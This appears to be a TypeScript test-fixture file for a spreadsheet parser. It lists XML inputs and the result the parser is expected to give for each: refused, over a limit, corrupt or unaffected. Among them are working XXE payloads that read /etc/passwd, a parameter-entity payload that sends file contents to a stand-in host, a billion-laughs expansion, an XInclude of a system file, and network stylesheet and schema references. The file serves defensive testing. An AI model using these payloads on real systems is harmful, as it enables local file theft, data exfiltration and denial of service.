import { encoded } from "../../ingest/encode-chinese.ts";
import { beyond, corrupt, numbered, same } from "./attack.ts";
import {
  behindCells,
  behindRows,
  changed,
  inSheet,
  links,
  many,
  parts,
  sheet,
  strings,
  withAnswer,
  withPart,
  workbook,
  zip,
} from "./base.ts";

const xml = parts[sheet] ?? "";
const asBytes = (content: Uint8Array): Uint8Array => zip({ ...parts, [sheet]: content });
const declared = (text: string, encoding: string): string => text.replace('encoding="UTF-8"', `encoding="${encoding}"`);
const utf16 = (text: string, mark: readonly number[], isBig: boolean): Uint8Array => {
  const bytes = Buffer.from(text, "utf16le");
  return new Uint8Array(Buffer.concat([Buffer.from(mark), isBig ? bytes.swap16() : bytes]));
};

const doctype = (subset: string, root = "worksheet"): string => `<!DOCTYPE ${root} ${subset}>`;
const withDoctype = (subset: string, text = xml): string => text.replace(/<worksheet/u, () => `${doctype(subset)}<worksheet`);
const attacked = (subset: string): Uint8Array =>
  inSheet((text) => withDoctype(subset, text).replace("</sheetData>", '<row r="900"><c r="A900" t="str"><v>&a;</v></c></row></sheetData>'));
const inPart = (part: string, root: string): Uint8Array =>
  withPart(part, (text) => text.replace(`<${root}`, () => `${doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', root)}<${root}`));

const laughs = `[<!ENTITY l0 "ha">${many(9, (index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`)}<!ENTITY a "&l9;">]`;
const refusedDoctype = corrupt(sheet, "doctype");

/** Class X: a DOCTYPE is refused wherever it is read, before anything it declares. */
export const entities = numbered("XD", [
  ["an entity that is a file", () => attacked('[<!ENTITY a SYSTEM "file:///etc/passwd">]'), refusedDoctype],
  ["an entity from the network", () => attacked('[<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]'), refusedDoctype],
  ["entities of entities of entities", () => attacked(laughs), refusedDoctype],
  ["one long entity, many times", () => attacked(`[<!ENTITY a "${"a".repeat(100_000)}">]`), refusedDoctype],
  [
    "parameter entities",
    () => attacked('[<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY % q "<!ENTITY a SYSTEM \'http://x/?%p;\'>">%q;]'),
    refusedDoctype,
  ],
  ["a definition elsewhere", () => attacked('SYSTEM "http://127.0.0.1:9/a.dtd"'), refusedDoctype],
  ["a DOCTYPE without anything", () => inSheet(() => withDoctype("")), refusedDoctype],
  ["a DOCTYPE in UTF-16", () => asBytes(utf16(declared(withDoctype('[<!ENTITY a "b">]'), "UTF-16"), [0xff, 0xfe], false)), refusedDoctype],
  ["a DOCTYPE of 8 MB", () => attacked(`[<!ENTITY a "${many(1_000_000, (index) => String(index).padStart(8))}">]`), refusedDoctype],
  ["a DOCTYPE in the workbook part", () => inPart(workbook, "workbook"), corrupt(workbook, "doctype")],
  ["a DOCTYPE in the references", () => inPart(links, "Relationships"), corrupt(links, "doctype")],
  ["a DOCTYPE in the shared strings", () => inPart(strings, "sst"), corrupt(strings, "doctype")],
  ["a DOCTYPE in the properties", () => inPart("docProps/core.xml", "cp:coreProperties"), corrupt("docProps/core.xml", "doctype")],
  ["a DOCTYPE in the styles, which are never read", () => inPart("xl/styles.xml", "styleSheet"), same],
  [
    "an entity that nobody declared",
    () => behindRows('<row r="900"><c r="A900" t="str"><v>&passwd;</v></c></row>'),
    corrupt(sheet, "not-well-formed"),
  ],
]);

/** 4 MB that do not compress beyond what is allowed. */
const long = many(400_000, (index) => String(index).padStart(10));

const attributes = (count: number): string => `<x ${many(count, (index) => `a${index}="1" `)}/>`;

/** Class X: what makes parsers slow or makes them guess. */
export const markup = numbered("XM", [
  ["200,000 elements within elements", () => behindCells("<x>".repeat(200_000) + "</x>".repeat(200_000)), beyond("xmlDepth")],
  ["200,000 elements that never close", () => behindCells("<x>".repeat(200_000)), beyond("xmlDepth")],
  ["200,000 attributes", () => behindCells(attributes(200_000)), same],
  ["200,000 attributes of one name", () => behindCells(`<x ${'a="1" '.repeat(200_000)}/>`), corrupt(sheet, "not-well-formed")],
  ["200,000 namespaces", () => behindCells(`<x ${many(200_000, (index) => `xmlns:n${index}="u" `)}/>`), same],
  ["an attribute of 4 MB", () => behindCells(`<x a="${long}"/>`), same],
  ["a comment of 4 MB", () => behindCells(`<!--${long}-->`), same],
  ["an instruction of 4 MB", () => behindCells(`<?x ${long}?>`), same],
  ["a name of 4 MB", () => behindCells(`<${long.replaceAll(" ", "a")}/>`), same],
  ["a text of 4 MB in a cell", () => withAnswer(`<c r="E13" t="str"><v>${long}</v></c>`), beyond("cellCharacters")],
  ["a number of 4 MB in a cell", () => withAnswer(`<c r="E13"><v>${long.replaceAll(" ", "0")}</v></c>`), beyond("cellCharacters")],
  ["markup that breaks off", () => inSheet((text) => text.slice(0, -5000)), corrupt(sheet, "not-well-formed")],
  ["a character that XML has not, by number", () => withAnswer('<c r="E13" t="str"><v>3&#0;</v></c>'), corrupt(sheet, "not-well-formed")],
  ["a character that XML has not", () => withAnswer('<c r="E13" t="str"><v>3\u0001</v></c>'), corrupt(sheet, "not-well-formed")],
  [
    "bytes that are no UTF-8",
    () =>
      asBytes(new Uint8Array(Buffer.concat([Buffer.from(xml.slice(0, 5000)), Buffer.from([0xc3, 0x28]), Buffer.from(xml.slice(5000))]))),
    corrupt(sheet, "bad-encoding"),
  ],
  [
    "an overlong <",
    () =>
      asBytes(new Uint8Array(Buffer.concat([Buffer.from(xml.slice(0, 5000)), Buffer.from([0xc0, 0xbc]), Buffer.from(xml.slice(5000))]))),
    corrupt(sheet, "bad-encoding"),
  ],
  ["UTF-7", () => inSheet((text) => declared(text, "UTF-7")), corrupt(sheet, "bad-encoding")],
  ["two declarations", () => inSheet((text) => `<?xml version="1.0"?>${text}`), corrupt(sheet, "not-well-formed")],
  ["two roots", () => inSheet((text) => `${text}<worksheet/>`), corrupt(sheet, "not-well-formed")],
  [
    "an inclusion of a file",
    () =>
      behindRows(
        '<row r="900"><c r="A900" t="str"><v><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></v></c></row>',
      ),
    same,
  ],
  [
    "a style sheet of the network",
    () => inSheet((text) => text.replace("?>", '?><?xml-stylesheet href="http://127.0.0.1:9/a.xsl" type="text/xsl"?>')),
    same,
  ],
  [
    "a schema of the network",
    () =>
      inSheet((text) =>
        text.replace(
          "<worksheet",
          '<worksheet xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://127.0.0.1:9/a a.xsd"',
        ),
      ),
    same,
  ],
]);

/** Class X: odd but sound. */
export const benignXml = numbered("XO", [
  ["a byte order mark", () => inSheet((text) => `\uFEFF${text}`), same],
  ["UTF-16 with its mark", () => asBytes(utf16(declared(xml, "UTF-16"), [0xff, 0xfe], false)), same],
  ["UTF-16 the other way round", () => asBytes(utf16(declared(xml, "UTF-16"), [0xfe, 0xff], true)), same],
  ["UTF-16 without mark", () => asBytes(utf16(declared(xml, "UTF-16LE"), [], false)), same],
  ["GB2312", () => asBytes(encoded(declared(xml, "GB2312").replaceAll(/[\u2192\u2014\u2013]/gu, "-"), "gb18030")), same],
  ["a wrong statement of UTF-16", () => inSheet((text) => declared(text, "utf-16")), same],
  ["no declaration", () => inSheet((text) => text.replace(/^<\?xml[^>]*>\s*/u, "")), same],
  ["CDATA", () => withAnswer('<c r="E13" t="str"><v><![CDATA[3]]></v></c>'), same],
  ["CDATA in pieces", () => withAnswer('<c r="E13"><v><![CDATA[]]>3<![CDATA[]]></v></c>'), same],
  ["characters by number", () => withAnswer('<c r="E13" t="str"><v>&#x33;&#32;&#20840;&#38754;&#23454;&#26045;</v></c>'), same],
  ["a comment within the value", () => withAnswer('<c r="E13"><v><!-- 4 -->3</v></c>'), same],
  ["single quotes", () => inSheet((text) => text.replaceAll(/<c r="(E\d+)"/gu, "<c r='$1'")), same],
  ["prefixes", () => inSheet((text) => text.replaceAll(/<(\/?)(?=[A-Za-z]+[\s/>])/gu, "<$1x:").replace("xmlns=", "xmlns:x=")), same],
  [
    "alternatives",
    () =>
      zip(
        changed(sheet, (text) =>
          text.replace(
            "<sheetData>",
            '<mc:AlternateContent><mc:Choice Requires="x14ac"><x14ac:a/></mc:Choice><mc:Fallback/></mc:AlternateContent><sheetData>',
          ),
        ),
      ),
    same,
  ],
  ["foreign cells", () => inSheet((text) => text.replaceAll("</row>", '<f:c xmlns:f="urn:f" r="E13"><f:v>4</f:v></f:c></row>')), same],
]);
